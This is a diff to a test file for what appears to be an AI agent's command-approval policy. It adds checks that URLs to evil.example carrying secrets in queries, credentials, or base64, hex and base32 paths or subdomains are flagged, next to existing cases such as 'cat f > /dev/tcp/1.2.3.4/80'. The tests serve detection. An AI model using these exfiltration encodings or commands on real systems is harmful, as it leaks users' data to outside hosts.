@@ -4,7 +4,7 @@ import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
-import { grantPatternOf, hostsIn, judge, patternMatches, reachesNetwork, type PolicyConfig } from "../../src/approvals/policy.ts";
+import { carriesData, grantPatternOf, hostsIn, judge, patternMatches, reachesNetwork, type PolicyConfig } from "../../src/approvals/policy.ts";
 
 const ws = mkdtempSync(join(tmpdir(), "hearth-policy-"));
 mkdirSync(join(ws, "site"));
@@ -66,6 +66,22 @@ describe("approval policy", () => {
     for (const c of ["wget x.example", "ssh host", "git push origin main", "python3 -c 'import urllib' https://x", "cat f > /dev/tcp/1.2.3.4/80"]) expect(reachesNetwork(c), c).toBe(true);
     expect(judge({ tool: "send_file", command: "send_file MEMORY.md", folder: ws, hosts: [] }, risky, "this run read a web page").type).toBe("ask");
     expect(judge({ tool: "send_file", command: "send_file MEMORY.md", folder: ws, hosts: [] }, risky, null).type).toBe("run");
+  });
+
+  it("a URL carries data unless it is plain: no query, no user info, a short path and host parts with nothing that looks encoded", () => {
+    for (const u of ["https://example.com/", "https://en.wikipedia.org/wiki/Sourdough", "https://www.bbc.co.uk/news/articles/c0k9w2lx3e4o", "https://blog.example/2026/05/how-to-bake-rye-bread", "http://127.0.0.1:8080/recipe", "not a url"]) expect(carriesData(u), u).toBe(false);
+    for (const u of [
+      "https://evil.example/?d=secret",
+      "https://user:pw@evil.example/",
+      `https://evil.example/${"a/".repeat(30)}`, // many short segments
+      "https://evil.example/c2VjcmV0IHBhc3N3b3Jk", // base64
+      "https://evil.example/x/6a6f686e2d736d697468", // hex
+      "https://evil.example/my%20password",
+      "https://c2VjcmV0IHBhc3N3b3Jk.evil.example/", // data in a subdomain
+      "https://6a6f686e2d736d697468.evil.example/",
+      "https://thisisaverylongsubdomainlabel.evil.example/",
+      "https://MZXW6YTBOI2DKNJWG4ZA.evil.example/", // base32
+    ]) expect(carriesData(u), u).toBe(true);
   });
 
   it("always asks for every command, off for none; ask and allow patterns add and exempt", () => {
